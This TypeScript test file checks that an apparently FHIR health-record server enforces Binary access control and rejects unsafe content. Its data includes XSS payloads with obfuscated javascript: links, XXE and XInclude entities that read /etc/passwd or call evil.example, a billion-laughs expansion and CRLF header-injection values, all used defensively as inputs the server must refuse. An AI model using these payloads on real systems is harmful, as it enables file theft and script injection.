/** Section F: Binary, attachments, narrative, content types. */
import { strict as assert } from 'node:assert';
import { reads, writes, type AccessCase } from './case.js';
import { observation, reference, tokens, type Resource } from './clinic.js';

const { tA, tAw, tU, tS } = tokens;
const binB: readonly [string, string] = ['binB', 'binX'];
const binary = (id: string | undefined, context: string | undefined, more: object = {}): Resource =>
  ({ resourceType: 'Binary', id, contentType: 'text/plain', data: 'bGV0dGVy', ...(context === undefined ? {} : { securityContext: reference(context) }), ...more });

/** Texts a browser would run; the addresses are those of a fix in another server, with its white space and control characters. */
const unsafeDivs: readonly string[] = [
  '<script>x</script>', '<img src="x" onerror="y"/>', '<iframe src="https://x"/>', '<form action="https://x"><input/></form>', '<p style="background:url(javascript:x)">x</p>', '<object data="x"/>', '<svg onload="x"/>',
  ...['javascript:x', ' javascript:x', '\tjavascript:x', '&#9;javascript:x', '&#10;javascript:x', '&#13;javascript:x', 'JaVaScRiPt:x', 'java&#9;script:x', 'vbscript:x', ' vbscript:x', 'data:text/html,x', 'file:///etc/passwd'].map((address) => `<a href="${address}">x</a>`),
  '<img src="&#9;javascript:x" alt="x"/>',
];
const safeDivs: readonly string[] = ['<a href="https://example.org/">x</a>', '<a href="mailto:a@example.org">x</a>', '<a href="#a">x</a>', '<p><b>x</b></p>'];
const narrated = (inner: string): Resource => observation(undefined, 'A', { text: { status: 'generated', div: `<div xmlns="http://www.w3.org/1999/xhtml">${inner}</div>` } });
const xml = { 'content-type': 'application/fhir+xml' };

export const sectionF: readonly AccessCase[] = [
  writes('F-1', 'a Binary is seen with what it belongs to, and alone by who sees everything', async (clinic) => {
    await clinic.expect(200, tA, 'GET', '/Binary/binA');
    for (const path of ['/Binary/binB', '/Binary/binB/_history', '/Binary/binB/_history/1', '/Binary/binB/$meta']) assert.equal((await clinic.absent(tA, 'GET', path, binB)).status, 404);
    assert.equal((await clinic.absent(tU, 'GET', '/Binary/binB', binB)).status, 404);
    await clinic.expect(200, tU, 'GET', '/Binary/binA');
    for (const [id, context] of [['bin1', undefined], ['bin2', 'Patient/nobody'], ['bin3', 'Patient/A/_history/1'], ['bin4', 'Binary/binA'], ['bin5', 'http://evil.example/fhir/Patient/A'], ['bin6', 'Observation/obsB']] as const) {
      await clinic.admin('PUT', `/Binary/${id}`, { body: binary(id, context) });
      assert.equal((await clinic.absent(tA, 'GET', `/Binary/${id}`, [id, 'binX'])).status, 404, String(context));
      await clinic.expect(200, tS, 'GET', `/Binary/${id}`);
    }
    await clinic.admin('PUT', '/Binary/bin7', { body: binary('bin7', 'Observation/obsA') });
    await clinic.expect(200, tA, 'GET', '/Binary/bin7');
    assert.deepEqual(await clinic.found(tA, '/Binary'), []);
    // What it belongs to changes hands: so does the Binary, at once.
    await clinic.admin('PUT', '/Observation/obsA', { body: observation('obsA', 'B') });
    assert.equal((await clinic.absent(tA, 'GET', '/Binary/bin7', ['bin7', 'binX'])).status, 404);
  }),
  writes('F-2', 'no Binary is captured, and none is given away', async (clinic) => {
    assert.equal((await clinic.absent(tAw, 'PUT', '/Binary/binB', binB, { body: binary('binB', 'Patient/A') })).status, 404);
    await clinic.expect(403, tAw, 'PUT', '/Binary/binA', { body: binary('binA', 'Patient/B') });
    await clinic.expect(403, tAw, 'PUT', '/Binary/binA', { body: binary('binA', undefined) });
    await clinic.expect(403, tAw, 'POST', '/Binary', { body: binary(undefined, 'Patient/B') });
    // A Practitioner is everyone's to read, and not the patient's to write for.
    await clinic.expect(403, tAw, 'POST', '/Binary', { body: binary(undefined, 'Practitioner/P') });
    await clinic.expect(201, tAw, 'POST', '/Binary', { body: binary(undefined, 'Patient/A') });
    assert.equal((await clinic.service.store.read({ type: 'Binary', id: 'binB' }))?.version, 1);
  }),
  writes('F-3', 'content is never shown as a page', async ({ admin, ask }) => {
    await admin('PUT', '/Binary/page', { body: binary('page', 'Patient/A', { contentType: 'text/html', data: Buffer.from('<script>x</script>').toString('base64') }) });
    for (const accept of ['text/html', 'image/svg+xml', '*/*', 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8']) {
      const { status, headers, text } = await ask(tA, 'GET', '/Binary/page', { headers: { accept } });
      assert.ok(status === 200 || status === 406, String(status));
      assert.match(String(headers['content-type']), /^application\/fhir\+(json|xml)/);
      assert.equal(headers['x-content-type-options'], 'nosniff');
      assert.match(String(headers['content-security-policy']), /default-src 'none'/);
      assert.ok(!text.includes('<script>'));
    }
  }),
  writes('F-4', 'a content type is a type and nothing more', async ({ ask, expect }) => {
    for (const contentType of ['text/html\r\nX-Injected: y', 'text/html\nX: y', '']) {
      const { status, headers } = await ask(tAw, 'POST', '/Binary', { body: binary(undefined, 'Patient/A', { contentType }) });
      assert.ok(status === 422 || status === 400 || status === 201, `${JSON.stringify(contentType)}: ${String(status)}`);
      assert.equal(headers['x-injected'], undefined);
    }
    const { text } = await expect(201, tAw, 'POST', '/Binary', { body: binary(undefined, 'Patient/A', { contentType: 'image/svg+xml' }) });
    const { headers } = await expect(200, tA, 'GET', `/Binary/${(JSON.parse(text) as Resource).id ?? ''}`);
    assert.match(String(headers['content-type']), /^application\/fhir\+json/);
  }),
  reads('F-5', 'a range is answered with the whole or not at all', async ({ ask, absent }) => {
    for (const range of ['bytes=0-', 'bytes=-1', 'bytes=5-2', 'bytes=1000000000-', `bytes=${Array.from({ length: 1_000 }, (_, at) => `${String(at)}-${String(at)}`).join(',')}`]) {
      const { status } = await ask(tA, 'GET', '/Binary/binA', { headers: { range } });
      assert.ok([200, 206, 416].includes(status), `${range.slice(0, 30)}: ${String(status)}`);
      await absent(tA, 'GET', '/Binary/binB', binB, { headers: { range } });
    }
  }),
  writes('F-6', 'the address of an attachment is not followed', async ({ admin, ask, found }) => {
    await admin('PUT', '/DocumentReference/doc2', { body: { resourceType: 'DocumentReference', id: 'doc2', status: 'current', subject: reference('Patient/A'), content: [{ attachment: { contentType: 'text/plain', url: 'Binary/binB' } }, { attachment: { url: 'http://evil.example/x' } }] } });
    for (const path of ['/DocumentReference/doc2', '/DocumentReference?_id=doc2&_include=*', '/Patient/A/$everything']) assert.doesNotMatch((await ask(tA, 'GET', path)).text, new RegExp(Buffer.from('letter of B').toString('base64')));
    assert.ok(!(await found(tA, '/DocumentReference?_id=doc2&_include=*')).includes('Binary/binB'));
  }),
  writes('F-7', 'a narrative runs nothing', async ({ ask, expect }) => {
    for (const inner of unsafeDivs) {
      const { status, text } = await ask(tAw, 'POST', '/Observation', { body: narrated(inner) });
      assert.ok(status === 422 || status === 400, `${inner}: ${String(status)} ${text.slice(0, 200)}`);
    }
    for (const div of ['<!DOCTYPE x><div xmlns="http://www.w3.org/1999/xhtml">x</div>', '<div>x</div>', '<div xmlns="http://www.w3.org/1999/xhtml" xmlns:x="http://www.w3.org/2000/svg"><x:script>x</x:script></div>']) {
      const { status } = await ask(tAw, 'POST', '/Observation', { body: observation(undefined, 'A', { text: { status: 'generated', div } }) });
      assert.ok(status === 422 || status === 400, div);
    }
    for (const inner of safeDivs) await expect(201, tAw, 'POST', '/Observation', { body: narrated(inner) });
  }),
  reads('F-8', 'XML brings no declarations, and opens nothing', async ({ ask }) => {
    const patient = '<Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="&x;"/></code><subject><reference value="Patient/A"/></subject></Observation>';
    const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${String.fromCharCode(98 + at)} "${`&${String.fromCharCode(97 + at)};`.repeat(10)}">`).join('')}]>`;
    for (const body of [`<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>${patient}`, `<!DOCTYPE x [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>${patient}`, laughs + patient, `<?xml-stylesheet href="http://evil.example"?><!DOCTYPE x>${patient}`, patient, patient.replace('&x;', 'x').replace('<status', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><status')]) {
      const { status, text } = await ask(tAw, 'POST', '/Observation', { body, headers: xml });
      assert.ok(status === 400 || status === 415 || status === 422, `${body.slice(0, 60)}: ${String(status)}`);
      assert.doesNotMatch(text, /root:/);
    }
  }),
  reads('F-9', 'bodies of other types are refused', async ({ expect }) => {
    const body = JSON.stringify(observation(undefined, 'A'));
    for (const type of ['text/plain', 'application/fhir+json; charset=utf-7', 'multipart/form-data; boundary=x', 'application/octet-stream', 'text/html', 'application/x-www-form-urlencoded']) await expect(415, tAw, 'POST', '/Observation', { body, headers: { 'content-type': type } });
  }),
  reads('F-10', 'a name that is there twice is refused', async ({ expect }) => {
    for (const body of ['{"resourceType":"Observation","resourceType":"Condition"}', '{"resourceType":"Observation","status":"final","code":{"text":"x"},"subject":{"reference":"Patient/A"},"subject":{"reference":"Patient/B"}}', '{"resourceType":"Observation","status":"final","code":{"text":"x"},"subject":{"reference":"Patient/B","reference":"Patient/A"}}']) await expect(400, tAw, 'POST', '/Observation', { body });
  }),
  reads('F-11', 'nothing that is sent comes back as a page', async ({ origin, ask }) => {
    for (const path of ['/?q=<svg onload=x>', '/fhir/<svg onload=x>', '/fhir/Observation?<svg onload=x>=1', '/docs?q=<svg onload=x>']) {
      const answer = await fetch(`${origin}${path}`, { headers: { accept: 'text/html' } });
      assert.doesNotMatch(answer.headers.get('content-type') ?? '', /html/);
      assert.ok(answer.status >= 400);
    }
    const { headers } = await ask(tA, 'GET', '/Observation/<svg%20onload=x>');
    assert.equal(headers['x-content-type-options'], 'nosniff');
  }),
];
